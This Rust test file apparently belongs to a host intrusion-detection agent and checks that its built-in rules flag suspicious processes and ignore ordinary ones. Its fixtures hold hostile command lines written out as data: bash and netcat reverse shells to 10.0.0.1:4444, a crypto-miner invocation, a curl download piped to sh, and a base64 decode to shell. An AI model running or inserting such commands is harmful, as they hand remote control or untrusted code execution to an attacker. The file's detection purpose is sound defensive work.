//! The built-in pack catches what each rule promises and stays quiet on an
//! ordinary workload.

use std::time::{Duration, SystemTime};

use collector_core::{
    BootId, PerformanceAnomaly, PerformanceAnomalyKind, PerformanceEvent, PerformanceMetric,
    PerformanceSubject, ProcessKey,
};
use daemoneye_agent::engine::{reads_performance, ProcessRow, RuleEngine};
use daemoneye_agent::performance::PerformanceRow;
use daemoneye_agent::rules;

fn key(pid: u32) -> ProcessKey {
    ProcessKey::new(BootId::from_bytes([7; 16]), pid, 1)
}

fn row(pid: u32, name: &str, exe: &str, argv: &[&str]) -> ProcessRow {
    ProcessRow {
        process_key: Some(key(pid).to_string()),
        pid,
        ppid: Some(1),
        name: name.to_owned(),
        exe: Some(exe.to_owned()),
        argv: argv.iter().map(ToString::to_string).collect(),
        uid: Some(1000),
        euid: Some(1000),
        file_exists: true,
        accessible: true,
        exe_dir_user_writable: Some(false),
        parent_name: Some("bash".to_owned()),
        event_type: "exec".to_owned(),
        ..ProcessRow::default()
    }
}

fn fired(rows: &[ProcessRow]) -> Vec<(String, u32)> {
    let mut engine = RuleEngine::new(rules::builtin().unwrap()).unwrap();
    assert!(engine.refused().is_empty(), "{:?}", engine.refused());
    let mut m: Vec<_> = engine
        .evaluate(rows)
        .unwrap()
        .into_iter()
        .map(|m| (m.rule_id, m.pid))
        .collect();
    m.sort();
    m
}

/// The rules fired by a batch of performance `samples` beside `processes`.
fn fired_performance(samples: &[PerformanceEvent], processes: &[ProcessRow]) -> Vec<(String, u32)> {
    let mut engine = RuleEngine::new(rules::builtin().unwrap()).unwrap();
    let samples: Vec<PerformanceRow> = samples.iter().map(PerformanceRow::new).collect();
    let mut m: Vec<_> = engine
        .evaluate_performance(&samples, processes)
        .unwrap()
        .into_iter()
        .map(|m| (m.rule_id, m.pid))
        .collect();
    m.sort();
    m
}

/// A sustained-CPU anomaly of `pid`.
fn busy(pid: u32) -> PerformanceEvent {
    PerformanceEvent::new(
        PerformanceMetric::ProcessCpu,
        99.0,
        PerformanceSubject::Process {
            pid,
            process_key: Some(key(pid)),
        },
        SystemTime::now(),
    )
    .with_anomaly(PerformanceAnomaly {
        kind: PerformanceAnomalyKind::SustainedCpu,
        threshold: 90.0,
        duration: Duration::from_secs(60),
    })
}

/// The host's fork rate, judged an anomaly or not.
fn forks(rate: f64, anomaly: bool) -> PerformanceEvent {
    let e = PerformanceEvent::new(
        PerformanceMetric::ForkRate,
        rate,
        PerformanceSubject::Host,
        SystemTime::now(),
    );
    if anomaly {
        e.with_anomaly(PerformanceAnomaly {
            kind: PerformanceAnomalyKind::ForkRate,
            threshold: 500.0,
            duration: Duration::from_secs(10),
        })
    } else {
        e
    }
}

/// The performance rules' cases: each a batch of samples and the processes
/// they name, and the one rule (and pid) it must fire.
fn performance_cases() -> Vec<(Vec<PerformanceEvent>, Vec<ProcessRow>, &'static str, u32)> {
    // A busy process is not enough: only with its binary or arguments.
    let tmp = row(
        50,
        "sh",
        "/tmp/.x1/sh",
        &["sh", "-c", "while :; do :; done"],
    );
    let hidden = row(51, "kworker", "/usr/lib/.cache/kworker", &["kworker"]);
    let miner = row(
        52,
        "java",
        "/usr/bin/java",
        &["java", "-o", "pool:3333", "--donate-level", "1"],
    );
    let mut cases: Vec<_> = [tmp, hidden, miner]
        .into_iter()
        .map(|r| {
            let pid = r.pid;
            (
                vec![busy(pid)],
                vec![r],
                "sustained-cpu-suspicious-binary",
                pid,
            )
        })
        .collect();
    cases.push((vec![forks(2_000.0, true)], Vec::new(), "fork-bomb", 0));
    cases
}

#[test]
fn every_performance_rule_fires_on_its_case_and_only_there() {
    for (samples, processes, id, pid) in performance_cases() {
        assert_eq!(
            fired_performance(&samples, &processes),
            [(id.to_owned(), pid)],
            "{samples:?} {processes:?}"
        );
    }
}

#[test]
fn performance_rules_run_on_performance_batches_only() {
    let pack = rules::builtin().unwrap();
    let of_performance = pack.iter().filter(|r| reads_performance(&r.sql)).count();
    assert_eq!(of_performance, 2);
    let mut engine = RuleEngine::new(pack.clone()).unwrap();
    let stats = engine.stats();
    engine
        .evaluate(&[row(1, "x", "/usr/bin/x", &["x"])])
        .unwrap();
    assert_eq!(
        stats.rule_runs.get(),
        u64::try_from(pack.len() - of_performance).unwrap()
    );
    let samples = [PerformanceRow::new(&forks(1.0, false))];
    engine.evaluate_performance(&samples, &[]).unwrap();
    assert_eq!(stats.rule_runs.get(), u64::try_from(pack.len()).unwrap());
}

#[test]
fn ordinary_performance_raises_nothing() {
    // A compiler from a toolchain under a dot directory, busy for minutes;
    // a busy process in /tmp whose CPU is a sample, not an anomaly; an
    // ordinary fork rate.
    let cargo = row(
        60,
        "rustc",
        "/root/.rustup/toolchains/stable/bin/rustc",
        &["rustc"],
    );
    let tmp = row(61, "a.out", "/tmp/build/a.out", &["./a.out"]);
    let mut sample = busy(61);
    sample.anomaly = None;
    let samples = vec![busy(60), sample, forks(40.0, false)];
    assert_eq!(
        fired_performance(&samples, &[cargo, tmp]),
        Vec::<(String, u32)>::new()
    );
}

#[test]
fn every_builtin_rule_fires_on_its_case_and_only_there() {
    let mut deleted = row(10, "payload", "/usr/local/bin/payload", &["payload"]);
    deleted.exe_deleted = true;
    deleted.file_exists = false;
    let mut shell_from_web = row(15, "sh", "/usr/bin/dash", &["sh", "-c", "id"]);
    shell_from_web.parent_name = Some("nginx".to_owned());
    let mut reused = row(18, "cron", "/usr/sbin/cron", &["cron"]);
    reused.event_type = "pid_reused".to_owned();
    let mut planted = row(19, "helper", "/opt/tools/helper", &["helper"]);
    planted.uid = Some(0);
    planted.exe_dir_user_writable = Some(true);
    let cases = vec![
        (deleted, "deleted-executable"),
        (row(11, "x", "/dev/shm/x", &["./x"]), "exec-from-temp-dir"),
        (
            row(
                12,
                "bash",
                "/usr/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
            ),
            "reverse-shell",
        ),
        (
            row(
                13,
                "nc",
                "/usr/bin/nc.traditional",
                &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
            ),
            "reverse-shell",
        ),
        (
            row(
                14,
                "xmrig",
                "/usr/local/bin/xmrig",
                &["xmrig", "-o", "stratum+tcp://pool:3333"],
            ),
            "crypto-miner",
        ),
        (shell_from_web, "service-spawned-shell"),
        (
            row(
                16,
                "sh",
                "/usr/bin/dash",
                &["sh", "-c", "echo aWQ= | base64 -d | sh"],
            ),
            "base64-decode-to-shell",
        ),
        (
            row(17, ".hidden", "/usr/lib/.cache/.hidden", &[".hidden"]),
            "hidden-executable",
        ),
        (reused, "pid-reuse"),
        (planted, "root-from-user-writable-dir"),
        (
            row(
                20,
                "sh",
                "/usr/bin/dash",
                &["sh", "-c", "curl -fsSL http://x/i.sh | sh"],
            ),
            "download-piped-to-shell",
        ),
    ];
    let rows: Vec<ProcessRow> = cases.iter().map(|(r, _)| r.clone()).collect();
    let got = fired(&rows);
    let mut want: Vec<(String, u32)> = cases
        .iter()
        .map(|(r, id)| ((*id).to_owned(), r.pid))
        .collect();
    want.sort();
    assert_eq!(got, want);
    // Every built-in rule is covered by a case above, or by a performance
    // case (and is a performance rule exactly then).
    let performance = performance_cases();
    for rule in rules::builtin().unwrap() {
        let covered = if reads_performance(&rule.sql) {
            performance.iter().any(|(_, _, id, _)| *id == rule.id)
        } else {
            want.iter().any(|(id, _)| *id == rule.id)
        };
        assert!(covered, "no case for {}", rule.id);
    }
}

#[test]
fn an_ordinary_workload_raises_nothing() {
    let mut nginx_worker = row(30, "nginx", "/usr/sbin/nginx", &["nginx: worker process"]);
    nginx_worker.parent_name = Some("nginx".to_owned());
    let mut root_daemon = row(31, "sshd", "/usr/sbin/sshd", &["sshd: /usr/sbin/sshd -D"]);
    root_daemon.uid = Some(0);
    let mut exited_tmp = row(32, "a.out", "/tmp/build/a.out", &["./a.out"]);
    exited_tmp.event_type = "exit".to_owned();
    let rows = vec![
        nginx_worker,
        root_daemon,
        exited_tmp,
        row(
            33,
            "cc1",
            "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
            &["/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "hello.c"],
        ),
        row(
            34,
            "cargo",
            "/root/.cargo/bin/cargo",
            &["cargo", "build", "--release"],
        ),
        row(
            35,
            "sh",
            "/usr/bin/dash",
            &["sh", "-c", "cat /etc/hosts | sort | uniq"],
        ),
        row(
            36,
            "curl",
            "/usr/bin/curl",
            &["curl", "-s", "https://api.example.com/v1", "-o", "out.json"],
        ),
        row(
            37,
            "sh",
            "/usr/bin/dash",
            &["sh", "-c", "curl -s https://api | jq .sha"],
        ),
        row(
            38,
            "python3",
            "/usr/bin/python3.11",
            &["python3", "-m", "http.server"],
        ),
        row(
            39,
            "ls",
            "/usr/bin/ls",
            &["ls", "-la", "/home/user/.config"],
        ),
        row(40, "git", "/usr/bin/git", &["git", "status"]),
        row(41, "bash", "/usr/bin/bash", &["-bash"]),
    ];
    assert_eq!(fired(&rows), Vec::<(String, u32)>::new());
}
